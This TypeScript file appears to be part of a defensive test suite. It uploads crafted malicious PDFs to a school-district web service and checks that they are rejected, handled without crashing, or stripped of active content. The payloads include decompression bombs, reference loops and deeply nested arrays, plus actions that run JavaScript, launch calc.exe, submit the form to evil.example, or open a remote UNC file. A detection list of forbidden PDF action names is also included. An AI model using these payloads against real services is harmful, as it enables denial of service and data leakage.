/** Uploads of malicious PDF files: bombs, loops and active content. */
import { deflateSync } from 'node:zlib';
import { readFile } from 'node:fs/promises';

import type { Family, Attempts } from '../attack.ts';
import { startBystanders } from '../target/bystanders.ts';
import { type HttpResponse, findErrorCode } from '../target/http-client.ts';
import { type Caller, districtPath } from '../target/callers.ts';
import type { Target } from '../target/target.ts';

const maxBytes = 1.5e9;

export const pdfFilesFamily: Family = {
  name: 'PDF files',
  isQuick: false,
  async attack(target, attempts) {
    const administrator = await target.createUser('administrator', 'b');
    const others = startBystanders(target);
    for (const [what, file] of createBombs()) {
      const response = await upload(target, administrator, file);
      const isServerError = response.status === 0 || response.status >= 500;
      attempts.record(
        `a PDF ${what}`,
        isServerError && `got ${response.status} ${findErrorCode(response)}`,
      );
      if (response.status === 200)
        await attackForm(target, attempts, administrator, what, response);
    }
    await others.end(attempts, 'uploads of bad PDF files');
    await attackQueue(target, attempts);
    const status = await readFile(`/proc/${target.main.pid}/status`, 'utf8').catch(() => '');
    const peak = Number(/VmHWM:\s+(\d+) kB/.exec(status)?.[1] ?? 0) * 1024;
    attempts.record(
      'all of these',
      peak > maxBytes && `took ${Math.round(peak / 1e6)} MB of memory`,
    );
  },
};

const upload = async (target: Target, caller: Caller, file: Uint8Array) =>
  target.send(caller, {
    method: 'POST',
    path: `${districtPath('b')}/pdf-forms?fileName=x.pdf`,
    headers: { 'content-type': 'application/pdf' },
    body: file,
  });

/** An accepted file must have no active content, and fill in reasonable time. */
async function attackForm(
  target: Target,
  attempts: Attempts,
  caller: Caller,
  what: string,
  response: HttpResponse,
): Promise<void> {
  const { id, pages } = JSON.parse(response.text) as { id: number; pages: number };
  attempts.record(`a PDF ${what}`, pages > 5000 && `is accepted with ${pages} pages`);
  const filled = await target.send(caller, {
    path: `${districtPath('b')}/students/${target.records.b.student.one}/pdf-forms/${id}/filled.pdf`,
  });
  const isServerError = filled.status === 0 || filled.status >= 500;
  attempts.record(`a PDF ${what}, filled`, isServerError && `got ${filled.status}`);
  const text = filled.bytes
    .toString('latin1')
    .replaceAll(/#([0-9a-f]{2})/gi, (_, hex: string) =>
      String.fromCharCode(Number.parseInt(hex, 16)),
    );
  const forbiddenNames = [
    '/JavaScript',
    '/JS',
    '/Launch',
    '/SubmitForm',
    '/EmbeddedFile',
    '/GoToR',
    '/RichMedia',
    '/XFA',
  ].filter((name) => text.includes(name));
  attempts.record(
    `a PDF ${what}, filled`,
    forbiddenNames.length > 0 && `still contains ${forbiddenNames.join(', ')}`,
  );
}

/** Ten slow files must not block another district. */
async function attackQueue(target: Target, attempts: Attempts): Promise<void> {
  const [, digits] = createBombs()[0] ?? [];
  if (digits === undefined) return;
  const users = [
    await target.createUser('administrator', 'b'),
    await target.createUser('administrator', 'b'),
  ];
  let completedCount = 0;
  const uploads = Array.from({ length: 10 }, async (_, index) => {
    const response = await upload(
      target,
      users[index % 2] ?? target.caller('administrator of b'),
      digits,
    );
    if (response.status !== 429) completedCount += 1;
  });
  await new Promise((resolve) => setTimeout(resolve, 300));
  const { a } = target.records;
  const response = await target.send(target.caller('staff of a'), {
    path: `${districtPath('a')}/students/${a.student.one}/pdf-forms/${a.pdfForm}/filled.pdf`,
  });
  attempts.record(
    'a PDF of another district during ten bad ones',
    response.status !== 200 && `got ${response.status}`,
  );
  // One may be in progress in each slot; the other district's is next.
  attempts.record(
    'a PDF of another district during ten bad ones',
    completedCount > 4 && `waits for ${completedCount} of them`,
  );
  await Promise.all(uploads);
}

/** Creates a PDF file of these objects; the first one is the catalog. */
function createPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const whole = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    offsets.push(length);
    parts.push(whole);
    length += whole.length;
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const createStream = (content: Buffer, dictionary = '') =>
  Buffer.concat([
    Buffer.from(`<< /Length ${content.length} ${dictionary} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

const catalog = '<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>';
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>';
const form = '<< /Fields [5 0 R] >>';
const field = '<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 100 20] /P 3 0 R >>';
const createPdfWithAction = (action: string) =>
  createPdf([
    catalog.replace('>>', `/OpenAction ${action} >>`),
    pages,
    page,
    form,
    field.replace('>>', `/A ${action} /AA << /K ${action} >> >>`),
  ]);

/** Returns malicious files with descriptions. */
function createBombs(): readonly (readonly [string, Buffer])[] {
  const zeros = deflateSync(Buffer.alloc(200_000_000));
  const twice = deflateSync(zeros);
  return [
    [
      'of nine megabytes of digits',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(9_000_000, '1 0 2 ')]),
    ],
    [
      'with the same page 900,000 times',
      createPdf([
        catalog,
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(900_000)}] /Count 900000 >>`,
        page,
        form,
        field,
      ]),
    ],
    [
      'with a declared billion pages',
      createPdf([catalog, pages.replace('/Count 1', '/Count 1000000000'), page, form, field]),
    ],
    [
      'whose pages contain themselves',
      createPdf([catalog, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>', page, form, field]),
    ],
    [
      'whose fields contain themselves',
      createPdf([catalog, pages, page, form, '<< /T (a) /Kids [5 0 R] /Parent 5 0 R /FT /Tx >>']),
    ],
    ['whose objects refer to each other', createPdf([catalog, '3 0 R', '2 0 R', form, field])],
    [
      'with a page that unpacks to 200 MB',
      createPdf([
        catalog,
        pages,
        page.replace('>>', '/Contents 6 0 R >>'),
        form,
        field,
        createStream(zeros, '/Filter /FlateDecode'),
      ]),
    ],
    [
      'compressed twice',
      createPdf([
        catalog,
        pages,
        page.replace('>>', '/Contents 6 0 R >>'),
        form,
        field,
        createStream(twice, '/Filter [/FlateDecode /FlateDecode]'),
      ]),
    ],
    [
      'with objects that unpack to 200 MB',
      createPdf([
        catalog,
        pages,
        page,
        form,
        field,
        createStream(zeros, '/Type /ObjStm /N 1000000 /First 9 /Filter /FlateDecode'),
      ]),
    ],
    [
      '100,000 arrays deep',
      createPdf([
        catalog,
        pages,
        page,
        form,
        field,
        `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
      ]),
    ],
    [
      'with a name of a megabyte',
      createPdf([
        catalog,
        pages,
        page,
        form,
        field.replace('(name)', `(${'x'.repeat(1_000_000)})`),
      ]),
    ],
    [
      'with 20,000 fields',
      createPdf([catalog, pages, page, `<< /Fields [${'5 0 R '.repeat(20_000)}] >>`, field]),
    ],
    [
      'that is encrypted',
      createPdf(
        [
          catalog,
          pages,
          page,
          form,
          field,
          '<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>',
        ],
        '/Encrypt 6 0 R',
      ),
    ],
    [
      'whose cross-reference table refers to itself',
      createPdf([catalog, pages, page, form, field], '/Prev 9'),
    ],
    ['with a script', createPdfWithAction('<< /S /JavaScript /JS (app.alert(1)) >>')],
    [
      'with a script in encoded names',
      createPdfWithAction('<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    ],
    ['that starts a program', createPdfWithAction('<< /S /Launch /F (calc.exe) >>')],
    ['that sends itself', createPdfWithAction('<< /S /SubmitForm /F (https://evil.example/) >>')],
    [
      'that opens another file',
      createPdfWithAction('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>'),
    ],
    ['that is a web page', Buffer.from('<html><script>1</script>%PDF-1.7')],
    ['that is empty', Buffer.alloc(0)],
    ['cut in the middle', createPdf([catalog, pages, page, form, field]).subarray(0, 300)],
  ];
}
